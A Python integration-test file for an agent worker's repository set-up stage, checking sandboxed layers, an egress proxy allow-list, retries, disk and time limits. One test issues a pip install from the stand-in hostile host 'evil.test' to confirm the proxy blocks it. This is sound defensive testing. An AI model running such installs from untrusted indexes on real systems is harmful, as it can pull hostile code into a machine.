"""The set-up of a repository, end to end: real Postgres, git, sandbox, proxy and pip; the index is on loopback."""

from __future__ import annotations

import socket
import threading
from contextlib import nullcontext

import pytest

from agent.outcome import Outcome, TestOutcome
from agent.protocols import SandboxLimits
from agent.types import ExitStatus
from tests.factories import issue_request
from tests.package_index import NAME, package_index
from tests.sandboxes import Place, place
from worker import wakes
from worker.adapters.egress import HostPattern, Indexes, Policy, ProxyEgress
from worker.adapters.layers import DiskLayers
from worker.heartbeat import Heartbeat
from worker.runs import ledger, requests, setups, states
from worker.runs.states import claim_next
from worker.stages.config import RepositoryConfig
from worker.stages.layer import layer_of, spec
from worker.stages.setup import Builder, SetUp
from worker.stages.verification import Verifier
from worker.stages.verify import Verify
from worker.store import queries
from worker.store.models import Run, RunState
from worker.sweep import Sweep

REPOSITORY = "owner/name"
FILES = {
    "requirements.txt": "tinypkg\n",
    "test_it.py": "import tinypkg\nassert tinypkg.ANSWER == 42\n",
    "ci/ok.sh": 'mkdir -p "$SETUP_DIR/bin"\nprintf "#!/bin/sh\\necho made\\n" >"$SETUP_DIR/bin/made"\n'
    'chmod +x "$SETUP_DIR/bin/made"\n',
}
TEST = "python3 test_it.py"


@pytest.fixture(scope="module")
def index():
    with package_index() as running:
        yield running


@pytest.fixture(scope="module")
def sandboxes(tmp_path_factory) -> Place:
    folder = tmp_path_factory.mktemp("set-up")
    return place(folder, FILES)


class Stage:
    def __init__(self, store, sandboxes: Place, index, root) -> None:
        self.store, self.place, self.root = store, sandboxes, root
        self.layers = DiskLayers(root / "setups")
        policy = Policy(private=(HostPattern.parse(f"{NAME}:{index.port}"),))
        self.egress = ProxyEgress(root / "egress", policy, lambda: Indexes(env=index.env), resolve=index.resolve)
        self.sent: list[wakes.Wake] = []

    def queue(self, number: int = 1, *, held: str | None = setups.HELD, max_attempts: int = 2, **config) -> Run:
        settings = RepositoryConfig(test=TEST, **config)
        with self.store.transaction() as session:
            run_id, _ = requests.start(
                session,
                issue_request(number, repository=REPOSITORY),
                clone_url="u",
                base_branch="main",
                base_commit=self.place.commit,
                profile="small-24b",
                max_attempts=max_attempts,
                repository_config=settings.model_dump(mode="json"),
                held_reason=held,
            )
        return self.run(run_id)

    def run(self, run_id) -> Run:
        with self.store.transaction() as session:
            return session.get_one(Run, run_id)

    @property
    def builder(self) -> Builder:
        return Builder(
            sandbox=self.place.sandbox,
            repositories=self.place.repos,
            layers=self.layers,
            egress=self.egress,
            limits=SandboxLimits(),
        )

    def set_up(self, run: Run) -> Run:
        heartbeat = Heartbeat(self.store, seconds=3600)
        try:
            SetUp(
                store=self.store,
                heartbeat=heartbeat,
                builder=self.builder,
                repositories=self.place.repos,
                send=self.sent.append,
            )(run.id)
        finally:
            heartbeat.close()
        return self.run(run.id)

    def claim(self):
        with self.store.transaction() as session:
            return claim_next(session, profile="small-24b", owner="w", seconds=60)

    def conclude(self, run: Run) -> None:
        """As a GPU worker does, with a patch that changes something."""
        lease = self.claim()
        diff = "--- /dev/null\n+++ b/new.txt\n@@ -0,0 +1 @@\n+x\n"
        git_dir = self.place.repos.run_dir(str(run.id), self.place.repos.mirror(REPOSITORY))
        tree = self.place.repos.apply(git_dir, run.base_commit, diff)
        with self.store.transaction() as session:
            ledger.record_patch(session, lease, self.place.repos.patch(git_dir, run.base_commit, tree))
            states.advance(session, lease, RunState.CONCLUDED, exit_status=ExitStatus.SUBMITTED)

    def verify(self, run: Run) -> Run:
        Verify(
            store=self.store,
            heartbeat=Heartbeat(self.store, seconds=3600),
            verifier=Verifier(sandbox=self.place.sandbox, repositories=self.place.repos),
            repositories=self.place.repos,
            layers=self.layers,
            send=self.sent.append,
            lease_seconds=60,
        )(run.id)
        return self.run(run.id)


@pytest.fixture
def stage(store, sandboxes, index, tmp_path) -> Stage:
    return Stage(store, sandboxes, index, tmp_path)


def test_a_detected_set_up_is_made_once_and_seen_by_the_evidence(stage, index):
    first, second = stage.queue(1), stage.queue(2)
    assert stage.claim() is None  # held: no worker takes it
    ready = stage.set_up(first)
    assert ready.held_reason is None
    assert ready.setup_key is not None
    assert stage.sent == [wakes.permit("small-24b"), wakes.setup(second.id)]
    asked = list(index.asked)
    assert "/simple/tinypkg/" in asked
    assert stage.set_up(second).setup_key == ready.setup_key  # found, not made again
    assert index.asked == asked

    stage.conclude(first)
    assert stage.verify(first).outcome is Outcome.PARTIAL
    with stage.store.transaction() as session:
        assert [row.outcome for row in queries.evidence(session, first.id)] == [TestOutcome.PASSED] * 2

    with layer_of(stage.layers, ready.setup_key) as layer:
        place = stage.place
        session = place.sandbox.open(spec(place.git_dir, place.commit, SandboxLimits(), layer))
        try:
            done = session.exec(
                ["sh", "-c", "command -v python3; command -v tinypkg; tinypkg; touch /opt/setup/x"], timeout=30
            )
            assert done.stdout.text.split() == ["/opt/setup/venv/bin/python3", "/opt/setup/venv/bin/tinypkg", "42"]
            assert "Read-only" in done.stderr.text
        finally:
            session.close()


def test_without_a_network_or_a_layer_the_same_test_fails(stage):
    run = stage.queue(held=None)
    stage.conclude(run)
    stage.verify(run)
    with stage.store.transaction() as session:
        assert [row.outcome for row in queries.evidence(session, run.id)] == [TestOutcome.FAILED] * 2


def test_a_layer_that_went_missing_is_made_again(stage):
    run = stage.set_up(stage.queue(setup="sh ci/ok.sh", setup_timeout_seconds=300))
    stage.conclude(run)
    stage.layers = DiskLayers(stage.root / "other")
    stage.sent.clear()
    waiting = stage.verify(run)
    assert (waiting.outcome, waiting.attempt, waiting.not_before is not None) == (None, 0, True)
    assert stage.sent == [wakes.setup(run.id)]
    again = stage.set_up(run)
    assert (again.state, again.not_before, stage.sent[-1]) == (RunState.CONCLUDED, None, wakes.verify(run.id))
    assert stage.verify(run).outcome is not None


def test_a_broken_set_up_ends_the_run_with_its_log_and_what_was_blocked(stage):
    command = "echo trying; pip install --retries 0 --index-url https://evil.test/simple nothing"
    run = stage.set_up(stage.queue(setup=command))
    assert (run.state, run.outcome, run.held_reason) == (RunState.CONCLUDED, Outcome.SETUP_FAILED, None)
    assert run.reason == "the set-up failed (exit status 1); blocked: `evil.test:443`"
    assert run.setup_log.startswith("blocked: evil.test:443: not on the list of allowed hosts\ntrying\n")
    assert "nothing" in run.setup_log
    assert stage.sent == [wakes.deliver(run.id)]
    stage.sent.clear()
    assert stage.set_up(run).lease_token == run.lease_token  # it no longer waits: nothing happens
    assert stage.sent == []
    assert not (stage.root / "setups" / "layers").exists() or not list((stage.root / "setups" / "layers").iterdir())


def test_a_backlog_pays_for_a_broken_set_up_once(stage):
    marker = "date +%N"  # the log tells one try from another
    runs = [stage.queue(number, setup=f"{marker}; exit 3") for number in range(1, 5)]
    first = stage.set_up(runs[0])
    assert stage.sent[0] == wakes.deliver(first.id)
    assert set(stage.sent[1:]) == {wakes.setup(run.id) for run in runs[1:]}
    stage.sent.clear()
    rest = [stage.set_up(run) for run in runs[1:]]
    assert {(run.outcome, run.reason, run.setup_log) for run in [first, *rest]} == {
        (Outcome.SETUP_FAILED, "the set-up failed (exit status 3)", first.setup_log)
    }
    assert stage.sent == [wakes.deliver(run.id) for run in runs[1:]]  # the others know already
    assert stage.layers.forget_failures() == 1
    again = stage.set_up(stage.queue(9, setup=f"{marker}; exit 3"))
    assert again.setup_log != first.setup_log


def test_a_failure_is_tried_again_after_a_while(stage):
    stage.layers = DiskLayers(stage.root / "setups", retry_seconds=0)
    first = stage.set_up(stage.queue(1, setup="date +%N; exit 3"))
    assert stage.set_up(stage.queue(2, setup="date +%N; exit 3")).setup_log != first.setup_log


def test_a_silent_index_is_no_broken_set_up(stage, index):
    """The host is allowed and does not answer: the run waits and is tried again, its attempts counted."""
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    policy = Policy(private=(HostPattern.parse(f"{NAME}:{port}"),))
    env = {name: value.replace(str(index.port), str(port)) for name, value in index.env.items()}
    stage.egress = ProxyEgress(stage.root / "egress", policy, lambda: Indexes(env=env), resolve=index.resolve)
    run = stage.set_up(stage.queue(setup="pip install --retries 0 tinypkg"))
    assert (run.state, run.outcome, run.attempt) == (RunState.QUEUED, None, 1)
    assert run.reason == f"the set-up failed (exit status 1); no answer from `{NAME}:{port}`"
    assert stage.layers.forget_failures() == 0


def test_a_disk_that_others_fill_is_no_broken_set_up(stage):
    stage.layers = DiskLayers(stage.root / "setups", reserve=1 << 60)
    run = stage.set_up(stage.queue(setup="sleep 60"))
    assert (run.state, run.outcome, run.attempt) == (RunState.QUEUED, None, 1)
    assert run.reason == "the disk was filling up, and not by this set-up alone: it was ended"
    assert stage.layers.forget_failures() == 0


def test_one_that_makes_too_much_is_ended_and_says_so(stage, quiet_disk):
    stage.layers = DiskLayers(quiet_disk / "setups", largest=32 << 20)
    run = stage.set_up(stage.queue(setup='dd if=/dev/zero of="$SETUP_DIR/x" bs=1M; sleep 60'))
    assert (run.outcome, run.reason) == (Outcome.SETUP_FAILED, "the set-up made more than a layer may hold")


def test_one_that_takes_too_long_ends_too(stage):
    run = stage.set_up(stage.queue(setup="echo before; sleep 60", setup_timeout_seconds=8))
    assert (run.outcome, run.reason) == (Outcome.SETUP_FAILED, "the set-up failed (not done after 8 s)")


def test_without_a_known_host_it_is_refused_with_words(stage):
    stage.egress = ProxyEgress(stage.root / "egress", Policy(), Indexes)
    run = stage.set_up(stage.queue())
    assert run.outcome is Outcome.SETUP_FAILED
    assert run.reason.startswith("the set-up was refused: no package client")


def test_a_run_that_needs_none_is_released(stage):
    run = stage.set_up(stage.queue(setup=False))
    assert (run.held_reason, run.setup_key) == (None, None)
    assert stage.claim() is not None


def test_while_somebody_else_makes_it_nobody_waits(stage):
    run = stage.queue()
    keys: list[str] = []
    make_key = stage.layers.key
    stage.layers.key = lambda parts: keys.append(make_key(parts)) or keys[-1]
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(stage.layers, "draft", lambda key: nullcontext(None))
        assert stage.set_up(run).held_reason == setups.HELD
    assert stage.sent == []
    assert len(keys) == 1


def test_our_own_failure_is_tried_again_and_then_fails(stage):
    run = stage.queue()
    git_dir = stage.place.repos.mirror(REPOSITORY)
    (git_dir / "fetched").rename(git_dir / "away")
    try:
        later = stage.set_up(run)
        assert (later.state, later.attempt, later.held_reason) == (RunState.QUEUED, 1, setups.HELD)
        assert later.not_before is not None
        assert stage.sent == []
        assert stage.set_up(run).state is RunState.FAILED
        assert stage.sent == [wakes.deliver(run.id)]
    finally:
        (git_dir / "away").rename(git_dir / "fetched")


def test_the_sweep_asks_again_for_held_runs(stage):
    run, other = stage.queue(1), stage.queue(2, held="budget")
    sweep = Sweep(store=stage.store, send=stage.sent.append)
    sweep()
    assert stage.sent == [wakes.setup(run.id)]
    sweep()  # announced just now
    assert stage.sent == [wakes.setup(run.id)]
    assert stage.run(other.id).held_reason == "budget"


def test_a_cancelled_run_is_not_released(stage):
    run = stage.queue()
    with stage.store.transaction() as session:
        requests.cancel(session, run.id, by="someone")
    with stage.store.transaction() as session:
        assert setups.release(session, run.id, "k") is None
        assert setups.conclude(session, run.id, reason="r", log="l") is False
        assert setups.postpone(session, run.id, reason="r", seconds=1) is False
    assert stage.run(run.id).state is RunState.CANCELLED


def test_a_claimed_run_whose_layer_is_gone_waits_again(stage):
    run = stage.queue(held=None)
    lease = stage.claim()
    with stage.store.transaction() as session:
        setups.hold(session, lease)
    held = stage.run(run.id)
    assert (held.state, held.held_reason, held.attempt) == (RunState.QUEUED, setups.HELD, 0)
    assert stage.claim() is None


def test_runs_beside_each_other_are_set_up_once(stage, index):
    runs = [stage.queue(number) for number in (1, 2, 3)]
    before = index.asked.count("/files/tinypkg-1.0-py3-none-any.whl")
    threads = [threading.Thread(target=stage.set_up, args=(run,)) for run in runs]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(120)
    for run in runs:
        stage.set_up(run)  # what the maker's announcement asks for
    assert {stage.run(run.id).held_reason for run in runs} == {None}
    assert index.asked.count("/files/tinypkg-1.0-py3-none-any.whl") == before + 1
